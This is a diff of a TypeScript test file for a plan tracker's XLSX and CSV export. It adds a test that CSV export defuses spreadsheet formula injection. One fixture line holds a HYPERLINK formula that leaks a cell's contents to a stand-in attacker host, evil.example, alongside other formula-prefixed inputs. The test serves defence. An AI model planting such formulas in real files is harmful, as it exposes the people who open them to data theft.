@@ -10,7 +10,7 @@ import { importPlan } from '../../src/import';
 import { raiseEscalation } from '../../src/escalation/raise';
 import type { Store } from '../../src/storage/store';
 import { makeTestStore } from '../support/store';
-import { FIXTURE } from '../import/helpers';
+import { copyFixture, editRows, FIXTURE } from '../import/helpers';
 
 const PLAN = 'plymouth-2023';
 const clock = fixedClock('2024-01-15T09:00:00Z');
@@ -115,10 +115,98 @@ describe('XLSX export', () => {
     expect(argb('7.5')).toBe(`FF${BRAG_COLOURS.green.slice(1)}`.toUpperCase());
     expect(argb('1.1')).toBe(`FF${BRAG_COLOURS.unrated.slice(1)}`.toUpperCase());
     expect(sheet.getRow(2).getCell(1).value).toMatch(/^Area 1: Leaders, including Plymouth City Council/);
-    expect(sheet.getRow(2).getCell(1).isMerged).toBe(true);
+    // Not merged: merged cells in a filtered range stop Excel sorting it.
+    expect(sheet.getRow(2).getCell(1).isMerged).toBe(false);
     expect(sheet.getRow(3).getCell(1).value).toBe('1.1');
-    expect(wb.getWorksheet('Summary')!.lastRow!.getCell(1).value).toBe('Whole plan');
-    expect(wb.getWorksheet('Summary')!.lastRow!.values).toEqual(expect.arrayContaining([76]));
+    const whole = wb.getWorksheet('Summary')!.lastRow!;
+    expect(whole.getCell(1).value).toBe('Whole plan');
+    expect((whole.getCell(8).value as ExcelJS.CellFormulaValue).result).toBe(76);
+  });
+
+  it('gives real date cells, an autofilter, BRAG as a list to pick from and summary counts as formulas', async () => {
+    const bytes = (await exportPlan(store, PLAN, 'xlsx', clock)) as Buffer;
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(bytes as unknown as ArrayBuffer);
+    const sheet = wb.getWorksheet('Tracker')!;
+    const header = (sheet.getRow(1).values as unknown[]).slice(1) as string[];
+    const col = (name: string) => header.indexOf(name) + 1;
+    const row11 = sheet.getRow(3);
+    expect(row11.getCell(1).value).toBe('1.1');
+    // 1.1 is due in December 2023: its last working day, as a date cell shown the UK way.
+    expect(row11.getCell(col('Due')).value).toEqual(new Date('2023-12-29T00:00:00.000Z'));
+    expect(row11.getCell(col('Due')).numFmt).toBe('d mmm yyyy');
+    expect(row11.getCell(col('Start')).value).toEqual(new Date('2023-08-01T00:00:00.000Z'));
+    expect(row11.getCell(col('Overdue')).value).toBe(17);
+    expect(row11.getCell(col('Overdue')).numFmt).toBe('0 "days"');
+    expect(sheet.autoFilter).toBe(`A1:O${sheet.rowCount}`);
+    expect(header).toHaveLength(15);
+    expect(row11.getCell(col('BRAG')).dataValidation).toMatchObject({
+      type: 'list',
+      formulae: ['"Blue,Green,Amber,Red,Unrated"'],
+      showErrorMessage: true,
+    });
+
+    // Each count is a COUNTIFS over the Tracker, and its cached result is what the Tracker holds.
+    const summary = wb.getWorksheet('Summary')!;
+    const labels = (summary.getRow(1).values as unknown[]).slice(1) as string[];
+    const trackerRows: { group: string; brag: string; overdue: unknown }[] = [];
+    sheet.eachRow((r, n) => {
+      if (n > 1 && r.getCell(col('BRAG')).value) {
+        trackerRows.push({ group: String(r.getCell(col('Group')).value), brag: String(r.getCell(col('BRAG')).value), overdue: r.getCell(col('Overdue')).value });
+      }
+    });
+    let inclusion!: ExcelJS.Row;
+    summary.eachRow((r) => {
+      if (r.getCell(1).value === 'Inclusion') inclusion = r;
+    });
+    const amber = inclusion.getCell(labels.indexOf('Amber') + 1).value as ExcelJS.CellFormulaValue;
+    expect(amber.formula).toBe(`COUNTIFS(Tracker!$D$2:$D$${sheet.rowCount},$A${inclusion.number},Tracker!$G$2:$G$${sheet.rowCount},"Amber")`);
+    // The file holds <v>0</v> for a zero count; exceljs reads a cached 0 back as no result.
+    for (const label of ['Blue', 'Green', 'Amber', 'Red', 'Unrated']) {
+      const cell = inclusion.getCell(labels.indexOf(label) + 1).value as ExcelJS.CellFormulaValue;
+      expect(cell.formula).toMatch(/^COUNTIFS\(/);
+      expect(cell.result ?? 0).toBe(trackerRows.filter((r) => r.group === 'Inclusion' && r.brag === label).length);
+    }
+    const overdue = inclusion.getCell(labels.indexOf('Overdue') + 1).value as ExcelJS.CellFormulaValue;
+    expect(overdue.formula).toMatch(/^COUNTIFS\(Tracker!\$D\$2:\$D\$\d+,\$A\d+,Tracker!\$K\$2:\$K\$\d+,">0"\)$/);
+    expect(overdue.result ?? 0).toBe(trackerRows.filter((r) => r.group === 'Inclusion' && typeof r.overdue === 'number').length);
+    expect((summary.lastRow!.getCell(2).value as ExcelJS.CellFormulaValue).formula).toMatch(/^SUM\(B2:B\d+\)$/);
+  });
+});
+
+describe('CSV export safe to open', () => {
+  it('writes cells a spreadsheet would run as formulas with a leading apostrophe, and re-imports them unchanged', async () => {
+    const fresh = await makeTestStore();
+    const src = copyFixture();
+    editRows(src, 'actions.csv', (rows) => {
+      const at = (ref: string) => rows.find((r) => r.ref === ref)!;
+      at('1.1').action = '=HYPERLINK("https://evil.example/?q="&A1,"Click for the minutes")';
+      at('1.2').outcome = '+44 more families report being heard';
+      at('1.3').note = '-- see the minutes of 3 October';
+      at('1.4').evidence_of_impact = '@SUM(1+1)';
+      at('1.5').note = 'Safe: =A1 in the middle is not a formula';
+    });
+    const first = await importPlan(fresh, src, { clock });
+    if (!first.ok) throw new Error(first.problems.join('\n'));
+    const csv = (await exportPlan(fresh, PLAN, 'csv', clock)) as string;
+    const [header, ...rows] = parse(csv) as string[][];
+    const cell = (ref: string, column: string) => rows.find((r) => r[0] === ref)![header!.indexOf(column)];
+    expect(cell('1.1', 'action')).toBe('\'=HYPERLINK("https://evil.example/?q="&A1,"Click for the minutes")');
+    expect(cell('1.2', 'outcome')).toBe("'+44 more families report being heard");
+    expect(cell('1.3', 'note')).toBe("'-- see the minutes of 3 October");
+    expect(cell('1.4', 'evidence_of_impact')).toBe("'@SUM(1+1)");
+    expect(cell('1.5', 'note')).toBe('Safe: =A1 in the middle is not a formula');
+    for (const row of rows) for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
+
+    const dir = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'pp-safe-')), 'again');
+    fs.mkdirSync(dir);
+    fs.writeFileSync(path.join(dir, 'actions.csv'), csv);
+    fs.copyFileSync(path.join(src, 'people.csv'), path.join(dir, 'people.csv'));
+    fs.copyFileSync(path.join(src, 'groups.csv'), path.join(dir, 'groups.csv'));
+    const again = await importPlan(fresh, dir, { clock, newPlan: true });
+    if (!again.ok) throw new Error(again.problems.join('\n'));
+    const strip = <T extends { planId: string }>(list: T[]) => list.map(({ planId: _p, ...rest }) => rest);
+    expect(strip(await fresh.plans.listActions('again'))).toEqual(strip(await fresh.plans.listActions(PLAN)));
   });
 });
 
